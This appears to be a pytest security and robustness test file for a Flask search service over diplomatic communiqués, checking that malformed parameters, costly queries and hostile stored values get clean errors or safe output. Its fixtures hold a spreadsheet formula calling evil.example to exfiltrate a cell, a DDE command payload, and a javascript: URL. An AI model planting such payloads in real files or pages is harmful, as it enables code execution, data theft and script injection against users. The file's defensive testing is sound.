"""Hostile input: every parameter of every route answers 400 (or a bounded 503), never 500.

The reproducers are the requests that once answered 500 or ran for minutes; the
property tests throw generated values at every parameter of every route.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_archive import make_record

from indexer import querylimits
from indexer.archive import Archive
from indexer.build import update_index
from indexer.entities.registry import promote
from indexer.search import SEARCH_TIME_LIMIT, SearchRequest, phrase_clause
from webapp import create_app
from webapp.params import SEARCH_PARAMS

ROUTE_BUDGET = SEARCH_TIME_LIMIT + 1.0  # no request may run longer than the limit plus 1 s


def cursor(data: object) -> str:
    blob = json.dumps(data, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(blob).decode().rstrip("=")


KOSOVO = SearchRequest(q="kosovo").fingerprint()
KOSOVO_NEWEST = SearchRequest(q="kosovo", sort="newest").fingerprint()

# (URL, the parameter the 400 names or None for a query error, a fragment of the message)
REPRODUCERS = [
    ("/api/search?month=x", "month", "a month like 2018-07"),
    ("/api/search?month=2018-13", "month", "a month like 2018-07"),
    ("/api/search?year=twenty", "year", "a year like 2018"),
    ("/api/search?from=²²²²", "from", "a date like 2018"),
    ("/api/search?to=2018-02-30", "to", "a date like 2018"),
    ("/api/search?page=²", "page", "a whole number from 1 to 1000"),
    ("/api/search?page=0", "page", "a whole number from 1 to 1000"),
    ("/api/search?size=-1", "size", "a whole number from 1 to 100"),
    ("/api/search?facet_size=1e3", "facet_size", "a whole number from 1 to 500"),
    ("/api/search?sort=sideways", "sort", "relevance, newest or oldest"),
    ("/api/search?exact=perhaps", "exact", "1 or 0"),
    ("/api/search?sort=newest&sort=oldest", "sort", "only once"),
    ("/api/search?official=" + "x" * 400, "official", "at most 300 characters"),
    ("/api/search?q=kosovo&cursor=MTIz", None, "cursor is not one this service gave out"),
    ("/api/search?q=kosovo&cursor=bnVsbA", None, "cursor is not one this service gave out"),
    ("/api/search?q=kosovo&cursor=" + cursor({"f": KOSOVO, "o": "x"}), None, "cursor"),
    ("/api/search?q=kosovo&cursor=" + cursor({"f": KOSOVO, "o": 1e300}), None, "cursor"),
    ("/api/search?q=kosovo&cursor=" + cursor({"f": KOSOVO, "o": True}), None, "cursor"),
    ("/api/search?q=kosovo&cursor=" + cursor({"f": KOSOVO, "o": -5}), None, "cursor"),
    ("/api/search?q=kosovo&cursor=" + cursor({"f": KOSOVO, "k": 5, "i": "a"}), None, "cursor"),
    ("/api/search?q=kosovo&sort=newest&cursor=" + cursor({"f": KOSOVO_NEWEST, "k": "x", "i": 3}),
     None, "cursor"),
    ("/api/search?q=kosovo&sort=newest&cursor=" + cursor({"f": KOSOVO_NEWEST, "o": 10}),
     None, "cursor"),
    ("/api/search?q=kosovo&cursor=" + cursor([KOSOVO, 1]), None, "cursor"),
    ("/api/search?q=kosovo&cursor=%F0%9F%98%80", "cursor", "the 'next' value"),
    ("/api/search?q=dacic~2/9", None, "longer than the word"),
    ("/api/search?q=abcdefghijklmnop~9", None, "at most 2 edits"),
    ("/api/search?q=abcdefghij~7", None, "at most 2 edits"),
    ("/api/search?q=" + "(" * 9 + "kosovo" + ")" * 9, None, "nested more than 8 deep"),
    ("/api/search?q=" + " OR ".join(f"w{n}" for n in range(70)), None, "more than 128 parts"),
    ("/api/search?q=date:²²²²", None, "could not read the date"),
    ('/api/search?q="kosovo serbia"~99999999999999999999', None, "at most 100 apart"),
    ("/api/communiques/x?version=x", "version", "a whole number"),
]


@pytest.mark.parametrize(("url", "parameter", "fragment"), REPRODUCERS)
def test_reproducers_answer_400_naming_what_to_fix(client, url: str, parameter: str | None,
                                                   fragment: str) -> None:
    response = client.get(url)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    error = response.get_json()["error"]
    assert fragment in error["message"]
    if parameter:
        assert error["type"] == "invalid_parameter" and error["parameter"] == parameter
    # The page says the same, as a page.
    page = client.get(url.replace("/api/search", "/", 1))
    if url.startswith("/api/search"):
        assert page.status_code == 400 and "Traceback" not in page.get_data(as_text=True)


def test_unknown_parameters_are_ignored_and_never_reach_links(client) -> None:
    hostile = "&format=x&endpoint=y&_anchor=z&_external=1&_scheme=javascript&_method=DELETE"
    page = client.get("/?q=kosovo" + hostile)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    for name in ("format=x", "endpoint=", "_anchor=", "_external", "_scheme", "_method", "#z"):
        assert name not in html
    api = client.get("/api/search?q=kosovo" + hostile).get_json()
    assert api["total"] > 0 and "endpoint" not in json.dumps(api["export"])
    assert client.get("/api/export.csv?q=kosovo" + hostile).status_code == 200


def test_a_wide_date_range_is_drawn_in_bounded_buckets(client) -> None:
    data = client.get("/api/search?from=0001&to=9999").get_json()
    buckets = data["histogram"]["buckets"]
    assert data["histogram"]["interval"] == "millennium" and len(buckets) <= 60
    assert sum(b["count"] for b in buckets) == data["total"]
    assert client.get("/?from=0001&to=9999").status_code == 200
    decades = client.get("/api/search?from=1900&to=2026").get_json()["histogram"]
    assert decades["interval"] == "decade"
    assert decades["buckets"][0]["key"] == "1900–1909"
    last = client.get("/api/search?from=9999-01&to=9999-12").get_json()["histogram"]
    assert last["buckets"] == [] or last["buckets"][-1]["to"] == "9999-12-31"


# -- query cost ---------------------------------------------------------------------------

@pytest.mark.parametrize(("word", "distance", "prefix"), [
    ("dacic", 1, 1), ("dacic", 2, 1), ("lavrov", 2, 2), ("kosvo", 1, 1), ("minister", 2, 3),
    ("serbia", 2, 1), ("ab", 2, 1),
])
def test_fuzzy_expansion_is_the_words_whoosh_finds(crawled_app, word: str, distance: int,
                                                   prefix: int) -> None:
    from whoosh import query as wq

    service = crawled_app.extensions["search"]
    _, searcher = service.generations.current()
    reader = searcher.reader()
    node = wq.FuzzyTerm("body", word, maxdist=distance, prefixlength=prefix)
    ours = {b for b in querylimits.fuzzy_candidates(node, reader) if b}
    whooshs = set(reader.terms_within("body", word, distance, prefix=prefix))
    assert ours == {w.encode() if isinstance(w, str) else w for w in whooshs}


def test_fuzzy_results_equal_whooshs_own_expansion(client, crawled_app) -> None:
    from whoosh import query as wq

    # collapse=0: every language version, as Whoosh counts them
    found = client.get("/api/search?q=dacic~2&size=100&collapse=0").get_json()
    assert found["total"] > 0
    ids: set[str] = set()
    while True:  # every page, through the cursor
        ids |= {hit["id"] for hit in found["results"]}
        if not found["next"]:
            break
        found = client.get("/api/search", query_string={
            "q": "dacic~2", "size": 100, "collapse": 0, "cursor": found["next"]}).get_json()
    service = crawled_app.extensions["search"]
    _, searcher = service.generations.current()
    reference = wq.Or([wq.FuzzyTerm("title", "dacic", maxdist=2, prefixlength=1),
                       wq.FuzzyTerm("body", "dacic", maxdist=2, prefixlength=1)])
    assert ids == {searcher.stored_fields(d)["id"] for d in searcher.docs_for_query(reference)}


def test_an_expansion_past_the_cap_is_a_400_saying_so(client, monkeypatch) -> None:
    monkeypatch.setattr(querylimits, "MAX_EXPANSIONS", 2)
    for q in ("minist*", "minist?r*", "ministar~2"):
        response = client.get("/api/search", query_string={"q": q, "sort": "newest"})
        assert response.status_code == 400, q
        assert "more than 2 different words" in response.get_json()["error"]["message"]


def test_the_time_limit_holds_inside_term_expansion(crawled_app) -> None:
    slow = create_app({"TESTING": True, "DATA_DIR": crawled_app.config["DATA_DIR"],
                       "SEARCH_TIME_LIMIT": 1e-6}).test_client()
    for q in ("dacic~2", "minist*", "kosovo"):
        started = time.monotonic()
        response = slow.get("/api/search", query_string={"q": q, "sort": "newest"})
        assert response.status_code == 503, q
        assert time.monotonic() - started < 1.0
        assert response.get_json()["error"]["type"] == "search_timeout"


# -- documents with hostile values --------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
QUOTED_OFFICIAL = 'Petar "Pera" Perić'


@pytest.fixture
def hostile_web(tmp_path: Path):
    with Archive(tmp_path) as archive:
        archive.store(replace(make_record(1, body="+cmd|' /C calc'!A0 Kosovo talks."),
                              title=FORMULA_TITLE))
        archive.store(replace(make_record(2, body="@SUM(1+1) Kosovo and Serbia."),
                              title="-2+3 Kosovo", url="javascript:alert(document.domain)"))
        archive.store(replace(make_record(3, body=f"Ambassador {QUOTED_OFFICIAL} met Kosovo."),
                              title="\tTabbed Kosovo title"))
        promote(tmp_path, QUOTED_OFFICIAL, country="RS", role="Ambassador")
        update_index(archive, tmp_path)
    return create_app({"TESTING": True, "DATA_DIR": str(tmp_path)}).test_client()


def test_csv_export_is_safe_for_spreadsheets(hostile_web) -> None:
    rows = list(csv.DictReader(io.StringIO(
        hostile_web.get("/api/export.csv?q=kosovo").get_data(as_text=True))))
    assert len(rows) == 3
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    titles = {row["title"] for row in rows}
    assert "'" + FORMULA_TITLE in titles and "'-2+3 Kosovo" in titles
    assert "'+cmd|' /C calc'!A0 Kosovo talks." in {row["body"] for row in rows}
    # JSON Lines is data for programs: the values as stored.
    lines = hostile_web.get("/api/export.jsonl?q=kosovo").get_data(as_text=True).splitlines()
    assert FORMULA_TITLE in {json.loads(line)["title"] for line in lines}


def test_only_http_urls_become_links(hostile_web) -> None:
    hit = next(h for h in hostile_web.get("/api/search?q=kosovo").get_json()["results"]
               if h["url"].startswith("javascript:"))
    page = hostile_web.get(f"/communiques/{hit['id']}").get_data(as_text=True)
    assert 'href="javascript:' not in page and "javascript:alert(document.domain)" in page
    safe = next(h for h in hostile_web.get("/api/search?q=kosovo").get_json()["results"]
                if h["url"].startswith("https://"))
    assert f'href="{safe["url"]}"' in hostile_web.get(
        f"/communiques/{safe['id']}").get_data(as_text=True)


def test_an_official_whose_name_holds_a_quote_has_a_working_page(hostile_web) -> None:
    assert phrase_clause("official", QUOTED_OFFICIAL) == 'official:"Petar Pera Perić"'
    people = hostile_web.get("/api/officials/petar-pera-peric")
    assert people.status_code == 200, people.get_data(as_text=True)
    assert people.get_json()["communiques"] == 1
    assert hostile_web.get("/officials/petar-pera-peric").status_code == 200


# -- per-client limits --------------------------------------------------------------------

def test_a_client_past_the_rate_limit_gets_a_json_429_with_retry_after(crawled_app) -> None:
    limited = create_app({"TESTING": True, "DATA_DIR": crawled_app.config["DATA_DIR"],
                          "RATE_LIMIT": "3/minute"}).test_client()
    answers = [limited.get("/api/search?q=kosovo") for _ in range(4)]
    assert [a.status_code for a in answers] == [200, 200, 200, 429]
    error = answers[-1].get_json()["error"]
    assert error["type"] == "too_many_requests" and "3 per 1 minute" in error["message"]
    assert int(answers[-1].headers["Retry-After"]) > 0
    page = limited.get("/")
    assert page.status_code == 429 and "too many requests" in page.get_data(as_text=True)
    assert limited.get("/static/style.css").status_code == 200  # assets are not counted
    # Another address has its own allowance.
    other = limited.get("/api/search?q=kosovo", environ_base={"REMOTE_ADDR": "127.0.0.9"})
    assert other.status_code == 200


def test_a_client_may_run_only_a_few_requests_at_once(crawled_app, monkeypatch) -> None:
    app = create_app({"TESTING": True, "DATA_DIR": crawled_app.config["DATA_DIR"],
                      "CONCURRENT_PER_CLIENT": 1})
    service = app.extensions["search"]
    entered, release = threading.Event(), threading.Event()
    original = service.search

    def held_search(request):
        entered.set()
        release.wait(5)
        return original(request)

    monkeypatch.setattr(service, "search", held_search)
    first: list[int] = []
    worker = threading.Thread(
        target=lambda: first.append(app.test_client().get("/api/search?q=a").status_code))
    worker.start()
    assert entered.wait(5)
    second = app.test_client().get("/api/search?q=b")
    other = app.test_client().get("/api/search?q=c", environ_base={"REMOTE_ADDR": "127.0.0.9"})
    release.set()
    worker.join(5)
    assert second.status_code == 429 and second.headers["Retry-After"] == "1"
    assert "at once" in second.get_json()["error"]["message"]
    assert first == [200] and other.status_code == 200
    assert app.test_client().get("/api/search?q=d").status_code == 200  # the slot came back


# -- property tests -----------------------------------------------------------------------

_QUERY_ALPHABET = st.sampled_from(
    list('abcdkosvlrABCZ "()*?~:-+^/[]{}\\!&|\'.,;=<>\t') + ["AND", "OR", "NOT", "TO", "date:",
     "title:", "official:", "exact:", "date:[", "~2", "~9/9", "Дачић", "ž", "\x00", "²", "*"])
QUERIES = st.lists(_QUERY_ALPHABET, max_size=40).map("".join)
VALUES = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["", "0", "-1", "1", "2018", "2018-07", "2018-13", "2018-02-30", "²²²²",
                     "0001", "9999", "9999-12", "1e3", "x", "true", "on", "MTIz", "bnVsbA",
                     "%00", "a" * 600, "ser*", "dacic~2"]),
    st.integers(-10**12, 10**12).map(str),
)
PARAMS = st.dictionaries(
    st.sampled_from(sorted(SEARCH_PARAMS) + ["format", "endpoint", "_anchor", "version",
                                             "official_op", "limit"]),
    st.lists(VALUES, min_size=1, max_size=3), max_size=6)
# The examples share one app and index (read-only), so a function-scoped client is fine.
SHARED_CLIENT = [HealthCheck.function_scoped_fixture]
SEARCH_ROUTES = ["/", "/api/search", "/api/export.csv", "/api/export.jsonl"]


def _answer_in_time(client, url: str, query_string: object = None) -> int:
    started = time.monotonic()
    response = client.get(url, query_string=query_string)
    response.get_data()  # a streamed export is read to its end
    elapsed = time.monotonic() - started
    assert response.status_code < 500, (url, query_string, response.get_data(as_text=True)[:300])
    assert elapsed < ROUTE_BUDGET, (url, query_string, elapsed)
    return response.status_code


@settings(max_examples=150, deadline=None, suppress_health_check=SHARED_CLIENT)
@given(q=QUERIES, route=st.sampled_from(SEARCH_ROUTES), sort=st.sampled_from(
    ["relevance", "newest", "oldest"]), exact=st.booleans())
def test_any_query_string_answers_without_a_server_error(client, q: str, route: str, sort: str,
                                                         exact: bool) -> None:
    status = _answer_in_time(client, route, {"q": q, "sort": sort, "exact": int(exact)})
    assert status in (200, 400, 503)


@settings(max_examples=150, deadline=None, suppress_health_check=SHARED_CLIENT)
@given(params=PARAMS, route=st.sampled_from(SEARCH_ROUTES))
def test_any_parameters_answer_without_a_server_error(client, params: dict, route: str) -> None:
    assert _answer_in_time(client, route, params) in (200, 400, 503)


@settings(max_examples=100, deadline=None, suppress_health_check=SHARED_CLIENT)
@given(path=st.text(max_size=40), value=VALUES, route=st.sampled_from([
    "/officials/{}", "/api/officials/{}", "/countries/{}/RU", "/countries/RS/{}",
    "/communiques/{}", "/api/communiques/{}", "/api/suggest?q={}"]))
def test_entity_document_and_suggest_routes_answer_without_a_server_error(
        client, path: str, value: str, route: str) -> None:
    from urllib.parse import quote

    url = route.format(quote(path, safe="") or "x")
    status = _answer_in_time(client, url, {"version": value} if "communiques" in route else None)
    assert status in (200, 308, 400, 404)  # 308: Werkzeug merges a doubled slash


def test_an_overlong_address_is_a_414_and_never_echoed_into_a_redirect(client) -> None:
    # The reliability fuzz found an 81 KB Location header on a doubled-slash redirect.
    response = client.get("/countries/%2F/JM/feed.atom?month=" + "x" * 40_000)
    assert response.status_code == 414 and "Location" not in response.headers
    api = client.get("/api/search?q=" + "x" * 40_000)
    assert api.status_code == 414 and api.get_json()["error"]["status"] == 414
    assert client.get("/countries//JM").status_code == 404  # not a redirect
